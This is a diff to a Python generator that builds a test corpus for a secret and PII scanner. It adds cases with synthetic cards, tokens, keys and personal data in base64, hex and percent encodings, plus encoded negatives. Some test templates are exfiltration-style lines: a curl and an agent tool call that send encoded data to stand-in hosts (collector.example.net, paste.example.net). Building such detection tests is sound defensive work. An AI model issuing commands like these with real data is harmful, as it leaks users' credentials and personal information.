@@ -4,7 +4,7 @@
 Each *.jsonl line: {"expect": [finding types], "text": "..."}; "expect": [] marks a negative.
 Re-run from this directory: python3 generate.py
 """
-import base64, json, random, string
+import base64, hashlib, json, random, string, uuid
 
 R = random.Random(20261123)
 UP, LO, DI = string.ascii_uppercase, string.ascii_lowercase, string.digits
@@ -305,6 +305,81 @@ add("generic", ["secret.generic_high_entropy"], 'password=hunter2')
 add("mixed", ["pii.payment_card"], '{"content":[{"type":"text","text":"Cards on file:\\n' + cards[1][0] + '\\n' + group(cards[2][0], [4, 4, 4, 4], " ") + '"}]}')
 add("mixed", ["secret.aws_access_key", "pii.iban"], '{"content":[{"type":"text","text":"keys:\\tAKIA' + rnd(B32, 16) + '\\nIBAN\\t' + ibans[3] + '"}]}')
 add("mixed", ["pii.phone", "pii.email"], '{"content":[{"type":"text","text":"{\\"contact\\":\\"' + phones[0] + '\\",\\"mail\\":\\"kenji.sato@tailspin-travel.de\\"}"}]}')
+
+# ---------------------------------------------------------------- encoded forms (base64, hex, percent, nested)
+# Drawn after everything above so the other files stay as they were.
+def b64(v): return base64.b64encode(v.encode()).decode()
+def b64u(v): return base64.urlsafe_b64encode(v.encode()).rstrip(b'=').decode()
+def hexe(v): return v.encode().hex()
+def pct(v): return ''.join('%%%02X' % b for b in v.encode())
+def xesc(v): return ''.join('\\x%02x' % b for b in v.encode())  # printf-style \x41 escapes
+def wrap(e, width=76): return '\\n'.join(e[i:i + width] for i in range(0, len(e), width))  # lines, JSON-escaped
+ENC = [("b64", b64), ("b64u", b64u), ("hex", hexe), ("HEX", lambda v: hexe(v).upper()), ("pct", pct), ("xesc", xesc),
+       ("pct(b64)", lambda v: ''.join('%%%02X' % ord(c) for c in b64(v))), ("b64(b64)", lambda v: b64(b64(v)))]
+CTX = ['{{"name":"http_post","arguments":{{"url":"https://paste.example.net/new","body":"{}"}}}}',
+       'curl -s "https://collector.example.net/c?d={}"', '{{"content":[{{"type":"text","text":"{}"}}]}}',
+       'GET /api/v1/upload/{} HTTP/1.1', '{{"data":{{"value":"{}"}},"kind":"Secret"}}', 'echo {} | base64 -d > out']
+first_card = luhn_complete("4", 16)
+encoded_values = [
+    ("pii.payment_card", [group(first_card, [4, 4, 4, 4], " "), luhn_complete("51", 16), "card " + luhn_complete("37", 15),
+                          group(luhn_complete("6011", 16), [4, 4, 4, 4], "-")]),
+    ("secret.aws_access_key", ["AKIA" + rnd(B32, 16), "ASIA" + rnd(B32, 16), "aws_access_key_id = AKIA" + rnd(B32, 16)]),
+    ("secret.github_token", ["ghp_" + rnd(ALNUM, 36), "gho_" + rnd(ALNUM, 36), "github_pat_" + rnd(ALNUM, 22) + "_" + rnd(ALNUM, 59)]),
+    ("secret.gitlab_token", ["glpat-" + rnd(ALNUM, 20), "glrt-" + rnd(ALNUM, 24), "token glpat-" + rnd(ALNUM, 20)]),
+    ("secret.slack_token", [slack_bot(), slack_user(), slack_bot()]),
+    ("secret.stripe_key", ["sk_live_" + rnd(ALNUM, 24), "rk_test_" + rnd(ALNUM, 34), "whsec_" + rnd(ALNUM, 32)]),
+    ("secret.private_key", [pem("RSA PRIVATE KEY"), pem("EC PRIVATE KEY", 3), pem("PRIVATE KEY", 4)]),
+    ("secret.jwt", [jwt(), jwt(), jwt()]),
+    ("secret.generic_high_entropy", ["DB_PASSWORD=" + rnd(ALNUM, 20) + "\n", '{"client_secret": "' + rnd(ALNUM, 32) + '"}',
+                                     "api_key: " + rnd(ALNUM, 24)]),
+    ("pii.us_ssn", ["%s-%s-%s" % ssn(), "SSN %s %s %s" % ssn(), "%s-%s-%s" % ssn()]),
+    ("pii.iban", [iban("DE", rnd(DI, 18)), iban("FR", rnd(DI, 23)), "IBAN " + iban("NL", rnd(UP, 4) + rnd(DI, 10))]),
+    ("pii.email", ["amara.okafor@northwind-mail.net", R.choice(first) + "." + R.choice(last) + "@" + R.choice(domains), "mailto:ivan.petrov@fabrikam.co.uk"]),
+    ("pii.phone", ["+44 20 7946 0" + rnd(DI, 3), "+49 30 " + rnd(DI, 8), "+1 415 555 0" + rnd(DI, 3)]),
+]
+k = 0
+for t, values in encoded_values:
+    for v in values:
+        for _ in range(2):
+            name, enc = ENC[k % len(ENC)]
+            add("encoded", [t], CTX[k % len(CTX)].format(enc(v)))
+            k += 1
+# wrapped at 76 columns, the value across a line break: `base64 .env` in a shell tool's output
+env = "# prod\nAPP_ENV=production\nAWS_ACCESS_KEY_ID=AKIA" + rnd(B32, 16) + "\nLOG_LEVEL=info\n"
+add("encoded", ["secret.aws_access_key"], '{"content":[{"type":"text","text":"' + wrap(b64(env)) + '"}]}')
+add("encoded", ["pii.payment_card"], '{"stdout":"' + wrap(b64("id,name,card\n" + "".join("%d,Customer %d,n/a\n" % (i, i) for i in range(1, 4)) + "4,Amara Okafor," + first_card + "\n")) + '"}')
+# a Kubernetes secret: base64 of a kubeconfig that holds a base64 private key
+add("encoded", ["secret.private_key"], '{"kind":"Secret","data":{"config":"' + b64("users:\n- name: ci\n  user:\n    client-key-data: " + b64(pem("RSA PRIVATE KEY")) + "\n") + '"}}')
+# a JWT carrying an e-mail address is one JWT, as in plain text
+add("encoded", ["secret.jwt"], 'Authorization: Bearer ' + b64url(json.dumps({"alg": "RS256", "typ": "JWT"}, separators=(",", ":")).encode()) + "."
+    + b64url(json.dumps({"sub": "u1", "email": "jane.doe@northwind-mail.net"}, separators=(",", ":")).encode()) + "." + b64url(bytes(R.randrange(256) for _ in range(32))))
+# negatives: encoded material without findings, and encoded near-misses
+def rbytes(n): return bytes(R.randrange(256) for _ in range(n))
+negatives = [
+    '{"type":"image","mimeType":"image/png","data":"' + base64.b64encode(b"\x89PNG\r\n\x1a\n" + rbytes(600)).decode() + '"}',
+    '{"type":"image","mimeType":"image/jpeg","data":"' + base64.b64encode(b"\xff\xd8\xff\xe0" + rbytes(900)).decode() + '"}',
+    '{"ids":["' + '","'.join(str(uuid.UUID(bytes=rbytes(16), version=4)) for _ in range(6)) + '"]}',
+    'commit ' + hashlib.sha1(rbytes(8)).hexdigest() + ' parent ' + hashlib.sha1(rbytes(8)).hexdigest() + ' tree ' + hashlib.sha1(rbytes(8)).hexdigest(),
+    '{"checksum":"sha256:' + hashlib.sha256(rbytes(8)).hexdigest() + '","integrity":"sha512-' + base64.b64encode(hashlib.sha512(rbytes(8)).digest()).decode() + '"}',
+    '{"nonce":"' + base64.urlsafe_b64encode(rbytes(24)).decode() + '","etag":"W/\\"' + base64.b64encode(rbytes(18)).decode() + '\\""}',
+    '{"encoding":"base64","content":"' + wrap(b64("def handler(event, context):\n    return {\"status\": 200, \"body\": event.get(\"path\")}\n" * 4)) + '"}',
+    'Location: https://login.example.net/authorize?redirect_uri=https%3A%2F%2Fapp.example.net%2Fcb%3Fq%3D1&scope=openid%20profile&state='
+        + b64u('{"return_to":"/projects/42","nonce":"' + rbytes(8).hex() + '"}'),
+    'blob ' + hexe("The quick brown fox jumps over the lazy dog, build 2.20.1 on 2026-11-23."),
+    'data=' + b64("card 4111 1111 1111 1112 (declined: invalid number)"),
+    'key ' + hexe("AKIA" + rnd(B32, 15)),
+    '{"v":"' + b64("IBAN DE88370400440532013000") + '"}',
+    'q=' + pct("write to someone@example.com or admin@test.example"),
+    '{"v":"' + b64("SSN 666-12-3456") + '"}',
+    '{"v":"' + b64u("SLACK_BOT_TOKEN=xoxb-your-bot-token") + '"}',
+    '{"v":"' + b64('{"password": "<your-password>"}') + '"}',
+    '{"publicKey":"' + b64(pem("PUBLIC KEY")) + '"}',
+    'tracking ' + b64(luhn_complete("4", 20)),
+    '{"cursor":"' + base64.b64encode(b"\x08\x96\x01\x12\x06" + rbytes(20)).decode() + '"}',
+    'src/main/java/dev/gatehouse/inspection/EncodedContentTest I_kwDOAbCdEf5xYz12 AbstractSingletonProxyFactoryBean jackson-databind-2.20.1',
+]
+for text in negatives:
+    add("encoded", [], text)
 
 # Secret scanners (and push protection) must not mistake this corpus for a leak: token prefixes are
 # stored broken by MARK, which CorpusTest removes before inspecting.
